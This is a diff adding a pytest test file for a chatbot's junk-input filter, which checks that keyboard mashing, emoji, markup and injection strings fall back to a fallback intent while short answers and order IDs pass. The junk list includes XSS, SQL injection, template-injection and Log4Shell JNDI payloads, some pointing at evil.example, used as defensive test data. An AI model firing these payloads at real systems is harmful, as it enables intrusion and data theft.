@@ -1,0 +1,144 @@
+"""bot.nlu.junk: junk input never reaches a real intent; short answers are kept."""
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from rasa.shared.nlu.training_data.message import Message
+
+from bot.nlu.junk import JunkFilter, is_junk, is_mash_word, key_runs
+
+JUNK = [
+    # empty / whitespace / no letters or digits
+    "", " ", "   \t\n", "\u200b", "\u00a0",
+    "😀", "😀😀😀", "👍🏻", "❤️", "👨‍👩‍👧", "🙏🙏 🙏", "?", "???", "...", "!!!", "?!?!", ":)", ":((",
+    "-_-", "^^", "***", "///", "@@", "#", "$$$", "(╯°□°)╯︵ ┻━┻", "…", "«»", "—",
+    # markup / script / templates
+    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>", "<b>hello</b>", "<div>hủy đơn</div>", "</p>",
+    "<a href=\"javascript:alert(1)\">click</a>", "javascript:alert(document.cookie)",
+    "<iframe src=\"https://evil.example\"></iframe>", "<!-- comment -->",
+    "<?xml version=\"1.0\"?><x/>", "{{7*7}}", "${jndi:ldap://evil.example/a}",
+    "<svg/onload=alert(1)>",
+    # SQL injection
+    "DROP TABLE orders", "drop table orders;", "'; DROP TABLE orders;--",
+    "1; DROP TABLE users", "' OR '1'='1", "' or 1=1 --", "admin'--", "x' OR 'a'='a",
+    "1 OR 1=1", "ORD-1001 OR 1=1", "' UNION SELECT username, password FROM users--",
+    "SELECT * FROM orders", "select * from users where id=1",
+    "DELETE FROM orders WHERE 1=1", "INSERT INTO users (name) VALUES ('x')",
+    "UPDATE orders SET status='refunded'", "1' AND SLEEP(5)#", "/* comment */",
+    "hủy đơn'; DROP TABLE orders; --", "TRUNCATE TABLE payments",
+    # keyboard mash
+    "asdfgh", "asdf", "jjjjjjj", "qưeqwe", "zxcvbnm", "qwerty", "qwe qwe", "hjkl",
+    "asdasd", "sdfsdf", "ASDFGH", "asdfgh jjjjjjj", "aaaaaa", "lkjhgf", "poiuy",
+    "asdfgh!!!", "zxcvbnm 😀", "bcdfgh",
+]
+
+NOT_JUNK = [
+    # short answers the forms rely on
+    "k", "ko", "ok", "OK", "oke", "ừ", "ừm", "uh", "ờ", "có", "không", "dc", "đc",
+    "1", "2", "3", "thx", "tks", "bn", "mk", "vâng", "yes", "no", "y", "n", "hi",
+    # ids, emails, amounts
+    "ORD-1001", "ord1001", "#1001", "1001", "ITM-4", "PPB-3001", "99k", "2tr", "500.000đ",
+    "an.pham@example.com", "asdfgh@example.com",
+    # real requests, including words that look a little like key runs
+    "hủy đơn hàng", "huy don hang", "cancel my order", "where is my order??",
+    "hello 😀", "cảm ơn ❤️", "werewolf", "were you charged twice?", "property tax refund",
+    "typewriter", "qua", "quá", "hahaha", "hihi", "hmm", "okkkk", "huhu", "sdt", "cskh",
+    "I want to select items from my order", "please delete from my account the old card",
+    "the order -- where is it?", "đơn 1001 or 1002", "<3", "I <3 you", "1+1=2",
+    "tôi muốn xóa bảng giá", "drop it", "table for two",
+]
+
+
+@pytest.mark.parametrize("text", JUNK)
+def test_junk(text: str) -> None:
+    assert is_junk(text)
+
+
+@pytest.mark.parametrize("text", NOT_JUNK)
+def test_not_junk(text: str) -> None:
+    assert not is_junk(text)
+
+
+def test_none_is_junk() -> None:
+    assert is_junk(None)
+
+
+@pytest.mark.parametrize(
+    "word,expected",
+    [("asdfgh", True), ("jjjj", True), ("qwe", True), ("abc", False), ("queqwe", True), ("zxcv", True),
+     ("were", False), ("werewolf", False), ("property", False), ("tree", False),
+     ("vâng", False), ("được", False), ("nguyen", False), ("quay", False)],
+)
+def test_mash_word(word: str, expected: bool) -> None:
+    assert is_mash_word(word) is expected
+
+
+def test_key_runs() -> None:
+    assert key_runs("asdfgh") == [6]
+    assert key_runs("asdasd") == [3, 3]
+    assert key_runs("were") == [3, 1]
+
+
+# Emoji, symbols, punctuation and whitespace (incl. zero-width joiner and the
+# emoji variation selector): never a letter or a digit.
+_NO_WORDS = st.characters(
+    whitelist_categories=("So", "Sk", "Sm", "Sc", "Pc", "Pd", "Ps", "Pe", "Pi", "Pf", "Po", "Zs"),
+    whitelist_characters="\u200d\ufe0f\t\n\r \u00a0😀👍🏻❤🙏",
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=_NO_WORDS, max_size=40))
+def test_any_emoji_punctuation_whitespace_string_is_junk(text: str) -> None:
+    assert is_junk(text)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=60))
+def test_never_raises(text: str) -> None:
+    assert is_junk(text) in (True, False)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.from_regex(r"[A-Z]{3}-\d{3,6}|\d{1,4}|#\d{4}|\d{1,3}(k|tr)", fullmatch=True))
+def test_ids_and_amounts_are_never_junk(text: str) -> None:
+    assert not is_junk(text)
+
+
+def _parsed(text: str, intent: str = "greet", confidence: float = 0.9) -> Message:
+    ranking = [{"name": intent, "confidence": confidence},
+               {"name": "goodbye", "confidence": 1 - confidence}]
+    return Message(data={"text": text, "intent": dict(ranking[0]), "intent_ranking": ranking,
+                         "entities": [{"entity": "order_id", "value": "ORD-1001",
+                                       "start": 0, "end": 8}]})
+
+
+def test_filter_overrides_junk_with_certain_fallback() -> None:
+    message = _parsed("ORD-1001'; DROP TABLE orders;--")
+    JunkFilter().process([message])
+    assert message.get("intent") == {"name": "nlu_fallback", "confidence": 1.0}
+    ranking = message.get("intent_ranking")
+    assert ranking[0] == {"name": "nlu_fallback", "confidence": 1.0}
+    assert [r["name"] for r in ranking[1:]] == ["greet", "goodbye"]
+    assert message.get("entities") == []
+    assert message.get("junk") is True
+
+
+def test_filter_replaces_an_earlier_fallback_instead_of_stacking() -> None:
+    message = _parsed("asdfgh")
+    message.set("intent", {"name": "nlu_fallback", "confidence": 0.5})
+    message.set("intent_ranking", [{"name": "nlu_fallback", "confidence": 0.5},
+                                   *message.get("intent_ranking")])
+    JunkFilter().process([message])
+    names = [r["name"] for r in message.get("intent_ranking")]
+    assert names == ["nlu_fallback", "greet", "goodbye"]
+    assert message.get("intent")["confidence"] == 1.0
+
+
+def test_filter_leaves_real_messages_alone() -> None:
+    message = _parsed("ORD-1001")
+    before = dict(message.data)
+    JunkFilter().process([message])
+    assert message.data == before
